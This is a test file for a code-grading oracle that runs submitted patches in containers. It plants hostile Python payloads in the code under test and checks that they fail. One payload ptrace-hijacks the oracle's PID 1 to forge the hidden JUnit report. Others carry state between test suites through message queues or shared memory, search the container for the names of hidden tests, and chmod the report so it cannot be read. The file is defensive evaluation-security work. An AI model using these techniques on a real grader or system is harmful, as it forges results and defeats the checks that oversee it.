// What the code under test can reach inside the container (issue 13, classes 1 and 5): the oracle's
// PID 1, what one suite leaves for the next, and what names the hidden suite or its sentinel. Each
// payload turns the unfixed add() into a fixed one only when its attack works, so a defence that
// does not hold shows as a wrong PASS. docs/security.md names each case.
import { requireDocker } from "@oracle/test-utils";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { type Corpus, expectOutcome, gradeCase, makeCorpus, makeDiff, TASKS, writeFiles } from "./harness.js";

let corpus: Corpus;

beforeAll(async () => {
  await requireDocker();
  corpus = await makeCorpus({ images: ["--only", "python-pytest"] });
}, 1_600_000);

afterAll(async () => {
  if (process.env.ORACLE_HOSTILE_KEEP) process.stderr.write(`kept ${corpus?.root}\n`);
  else await corpus?.cleanup();
});

/** What a suite printed on one stream, from the oracle log's suite.output events. */
const suiteText = (log: string, suite: string, stream: "stdout" | "stderr"): string =>
  log
    .split("\n")
    .filter((line) => line.includes('"suite.output"'))
    .map((line) => JSON.parse(line) as { suite: string; stream: string; text: string })
    .filter((event) => event.suite === suite && event.stream === stream)
    .map((event) => event.text)
    .join("");

/** add() is fixed only when the attack left `_WON` true. */
const FIXED_IF_WON =
  "def add(a, b):\n    return a + b if _WON else a - b\n\n\ndef double(x):\n    return x * 2\n";

const grade = (name: string, prelude: string) =>
  gradeCase(corpus, {
    task: TASKS.py,
    name,
    diff: makeDiff(corpus, TASKS.py, (dir) =>
      writeFiles(dir, { "calc/core.py": `${prelude}\n\n${FIXED_IF_WON}` }),
    ),
  });

/**
 * From the existing suite: PTRACE_ATTACH to PID 1 and make it execve a Python program (x86-64:
 * the registers of a syscall at the instruction PID 1 stopped after). That program, as PID 1, is
 * spared by every kill loop; it reaps its children, and keeps stripping the failures (all but a
 * must-fail sentinel's) from the hidden suite's JUnit report until the driver has read it.
 * It prints what happened to stderr at exit: the suite's output, in the oracle log.
 */
const HIJACK_PID1 = String.raw`
import ctypes as _c, os as _os, struct as _st

_PROGRAM = r'''
import os, re, time
fd = os.open("/dev/null", os.O_RDWR)
for i in (0, 1, 2):
    os.dup2(fd, i)
path = "/oracle/report/hidden/junit.xml"
def keep(m):
    t = m.group(0)
    return t if "must_fail" in t else re.sub(r"<failure\b.*?</failure>|<failure\b[^>]*/>", "", t, flags=re.S)
while True:
    try:
        while os.waitpid(-1, os.WNOHANG)[0] != 0:
            pass
    except ChildProcessError:
        os._exit(0)
    try:
        with open(path) as f:
            xml = f.read()
        new = re.sub(r"<testcase\b.*?(?:/>|</testcase>)", keep, xml, flags=re.S)
        if new != xml:
            with open(path + ".f", "w") as f:
                f.write(new)
            os.rename(path + ".f", path)
    except OSError:
        pass
    time.sleep(0.001)
'''


def _hijack():
    libc = _c.CDLL(None, use_errno=True)
    libc.ptrace.restype = _c.c_long
    libc.ptrace.argtypes = [_c.c_long, _c.c_long, _c.c_void_p, _c.c_void_p]

    class Regs(_c.Structure):
        _fields_ = [(n, _c.c_ulonglong) for n in (
            "r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax rip cs eflags rsp ss "
            "fs_base gs_base ds es fs gs").split()]

    try:
        open("/proc/1/mem", "rb").close()
        mem_note = "mem readable"
    except OSError as error:
        mem_note = "mem refused: %s" % error.strerror
    if libc.ptrace(16, 1, None, None) != 0:  # PTRACE_ATTACH
        return "attach refused: %s; %s" % (_os.strerror(_c.get_errno()), mem_note)
    _os.waitpid(1, 0x40000000)  # __WALL
    regs = Regs()
    libc.ptrace(12, 1, None, _c.byref(regs))  # PTRACE_GETREGS
    with open("/proc/1/mem", "r+b", buffering=0) as mem:
        mem.seek(regs.rip - 2)
        if mem.read(2) != b"\x0f\x05":
            libc.ptrace(17, 1, None, None)
            return "PID 1 did not stop after a syscall"
        base = (regs.rsp - 16384) & ~0xF
        blob, ptrs = b"", []
        for arg in (b"/usr/bin/python3", b"-c", _PROGRAM.encode()):
            ptrs.append(base + len(blob))
            blob += arg + b"\0"
        blob += b"\0" * (-len(blob) % 8)
        argv = base + len(blob)
        blob += b"".join(_st.pack("<Q", p) for p in ptrs) + _st.pack("<Q", 0)
        mem.seek(base)
        mem.write(blob)
    regs.rax, regs.orig_rax = 59, (1 << 64) - 1  # execve, and no syscall restart
    regs.rdi, regs.rsi, regs.rdx = ptrs[0], argv, argv + 8 * len(ptrs)
    regs.rip -= 2
    libc.ptrace(13, 1, None, _c.byref(regs))  # PTRACE_SETREGS
    libc.ptrace(17, 1, None, None)  # PTRACE_DETACH
    return "PID 1 hijacked"


_WON = False
if "existing" in _os.environ.get("ORACLE_JUNIT", "") and not _os.path.exists("/tmp/.hijack-tried"):
    open("/tmp/.hijack-tried", "w").close()
    try:
        _note = _hijack()
    except Exception as _error:
        _note = "failed: %r" % (_error,)
    # Printed at exit, when pytest no longer captures the suite's output.
    import atexit as _atexit
    _atexit.register(_os.write, 2, ("hijack: %s\n" % _note).encode())
`;

describe("the oracle's PID 1", () => {
  it("the existing suite ptrace-hijacks PID 1 to forge the hidden report -> refused (not dumpable), FAIL TESTS_FAILED", async () => {
    const g = await grade("hijack-pid1", HIJACK_PID1);
    // The attack ran and was refused by the kernel: the driver (PID 1) is not dumpable.
    expect(suiteText(g.log, "existing", "stderr")).toContain(
      "hijack: attach refused: Operation not permitted; mem refused: Permission denied",
    );
    expectOutcome(g, "FAIL", "TESTS_FAILED");
  });
});

/** What the existing suite could leave for the hidden one, or what names what it must not know. */
const LEAKS: Array<[name: string, prelude: string]> = [
  [
    "a POSIX message queue (/dev/mqueue) the existing suite leaves",
    `
import os as _os
_Q = "/dev/mqueue/oracle-carry"
_WON = _os.path.exists(_Q)
if not _WON and "existing" in _os.environ.get("ORACLE_JUNIT", ""):
    try:
        _os.close(_os.open(_Q, _os.O_CREAT | _os.O_RDWR, 0o600))
    except OSError:
        pass
`,
  ],
  [
    "a System V shared memory segment the existing suite leaves",
    `
import ctypes as _c, os as _os
_libc = _c.CDLL(None, use_errno=True)
_KEY = 0x0AC1E
_WON = _libc.shmget(_KEY, 4096, 0o600) >= 0
if not _WON and "existing" in _os.environ.get("ORACLE_JUNIT", ""):
    _libc.shmget(_KEY, 4096, 0o1000 | 0o600)  # IPC_CREAT
`,
  ],
  [
    "host paths of the task folder in /proc/self/mountinfo",
    `
_WON = False
with open("/proc/self/mountinfo") as _f:
    _WON = "tasks/hostile-py" in _f.read()
`,
  ],
  [
    "anything readable naming the sentinel",
    // The sentinel is what the hidden suite runs beyond the task's own test (test_add_positive):
    // a separate file (before) or functions appended to the hidden file (now). Only the checkout
    // and its source, the hidden tests' copy, may name it.
    String.raw`
import glob as _glob, os as _os, re as _re
_names = [_os.path.basename(_p)[:-3].encode() for _p in _glob.glob("/work/repo/checks/test_*.py")]
_names = [_n for _n in _names if _n != b"test_hidden"]
try:
    with open("/work/repo/checks/test_hidden.py", "rb") as _f:
        _names += [_n for _n in _re.findall(rb"def (test_\w+)", _f.read()) if _n != b"test_add_positive"]
except OSError:
    pass
_WON = False
for _path in _glob.glob("/oracle/**", recursive=True) + ["/proc/1/cmdline", "/proc/1/environ"]:
    if _path.startswith("/oracle/run/tests/") or _path.startswith("/oracle/hidden/"):
        continue
    try:
        with open(_path, "rb") as _f:
            _data = _f.read()
        _WON = _WON or any(_n in _data for _n in _names)
    except OSError:
        pass
`,
  ],
];

/** What the existing suite must not see of the hidden one: it fails (raises) when it does. */
const HIDDEN_FROM_EXISTING = `
import glob as _glob, os as _os
_WON = True
if "existing" in _os.environ.get("ORACLE_JUNIT", ""):
    _seen = []
    for _path in _glob.glob("/proc/[0-9]*/cmdline"):
        try:
            with open(_path, "rb") as _f:
                if b"checks" in _f.read():
                    _seen.append(_path)
        except OSError:
            pass
    _seen += _glob.glob("/oracle/*/checks") + _glob.glob("/oracle/*/*/checks")
    if _seen:
        raise SystemExit("the existing suite sees the hidden suite: %s" % _seen)
`;

describe("state and names the suites must not share", () => {
  it("the existing suite looks for the hidden suite's command (PID 1's command line) and tests (a mount) -> sees neither, PASS", async () => {
    const g = await grade("hidden-from-existing", HIDDEN_FROM_EXISTING);
    expectOutcome(g, "PASS", "PASS");
  });

  it.each(LEAKS)("%s -> nothing to find, FAIL TESTS_FAILED", async (name, prelude) => {
    const g = await grade(`leak-${name.replace(/[^a-z]+/gi, "-").slice(0, 40)}`, prelude);
    expectOutcome(g, "FAIL", "TESTS_FAILED");
    // The unfixed add() fails only the hidden test: the existing suite ran, so the payload did.
    expect(g.result.suites.existing.status).toBe("PASS");
  });
});

describe("the report channel", () => {
  it("the hidden suite makes its report unreadable at exit (chmod 0) -> FAIL REPORT_INVALID, not INFRA_ERROR", async () => {
    const prelude = `
import atexit as _atexit, os as _os
_WON = False
if "hidden" in _os.environ.get("ORACLE_JUNIT", ""):
    _atexit.register(lambda: _os.chmod(_os.environ["ORACLE_JUNIT"], 0))
`;
    const g = await grade("report-chmod", prelude);
    expectOutcome(g, "FAIL", "REPORT_INVALID");
    expect(g.result.message).toMatch(/cannot be read/);
  });
});
